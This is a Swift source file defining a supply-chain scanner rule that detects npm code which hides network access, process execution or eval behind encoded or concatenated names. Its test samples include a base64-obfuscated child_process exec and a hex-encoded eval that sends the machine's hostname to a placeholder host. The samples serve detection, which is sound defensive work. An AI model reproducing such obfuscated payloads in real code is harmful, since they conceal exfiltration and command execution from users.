// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// Code reaches the network, starts processes or runs text by names that do not stand in its source.
package struct DisguisedBehaviour: Rule {
    package init() {}

    package let card = RuleCard(
        id: "disguised-behaviour", kind: .content, title: "Hides what it uses", severity: .critical, confidence: .high, status: .stable,
        revision: 1, group: "disguise",
        rationale:
            "Names that are decoded, put together or kept in encoded code are there so that a search does not find them. What was found was worked out without running anything.",
        knownFalseAlarms: ["Commercial code that went through an obfuscator and reaches the network."],
        references: ["https://github.com/javascript-obfuscator/javascript-obfuscator"],
        fires: [
            RuleSample(
                "a module's name in base64",
                .sample(["index.js": "const c = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()); c['ex' + 'ec']('ls');"])),
            RuleSample(
                "code in hexadecimal",
                .sample([
                    "index.js":
                        "eval(Buffer.from('\(Array("require('https').get('http://c.test/?' + require('os').hostname());".utf8).map { ($0 < 16 ? "0" : "") + String($0, radix: 16) }.joined())', 'hex').toString());"
                ])),
        ],
        staysSilent: [
            RuleSample("plain", .sample(["index.js": "require('child_process').exec('ls'); eval('1+1');"])),
            RuleSample(
                "packed by a bundler, still readable",
                .sample(["index.js": #"eval("const h = require('https');\nh.get('https://a.test/');\n//# sourceURL=webpack:///./a.js");"#])),
            RuleSample("joined for old tools", .sample(["index.js": "const fs = require('f' + 's'); fs.readFileSync('a');"])),
        ]
    )

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        let kinds: Set<FactKind> = [
            .network, .dns, .startsProcess, .runsText, .hostIdentity, .wallet, .publishes, .keyboard, .deletesFiles,
        ]
        let found = facts.behaviour.allFacts.filter { kinds.contains($0.fact.kind) && $0.fact.isDisguised && !facts.files[$0.file].isAside }
        guard let first = found.first else { return [] }
        let uses = Set(found.map(\.fact.kind)).sorted { $0.rawValue < $1.rawValue }
        let words = Set(uses.compactMap(\.capability)).sorted().map(\.words)
        let moments = found.map { facts.moment(of: $0.fact, in: $0.file) }
        let isTelling = !uses.filter { $0 != .runsText && $0 != .hostIdentity }.isEmpty
        return [
            card.finding(
                "\(facts.files[first.file].path) \(PlainWords.list(words)) by names that do not stand in it\((moments.max() ?? .call).words)",
                strength: (isTelling ? 0.35 : 0) + (uses.count > 1 ? 0.25 : 0) + (moments.contains { $0.isByItself } ? 0.4 : 0),
                evidence: found.prefix(6).map { act in
                    Evidence(
                        file: facts.files[act.file].path, line: facts.evidence(act.fact, in: act.file).line,
                        excerpt: ([act.fact.api] + act.fact.details.prefix(2)).joined(separator: " "))
                },
                meaning: "Somebody took care that nobody sees what this does.")
        ]
    }
}
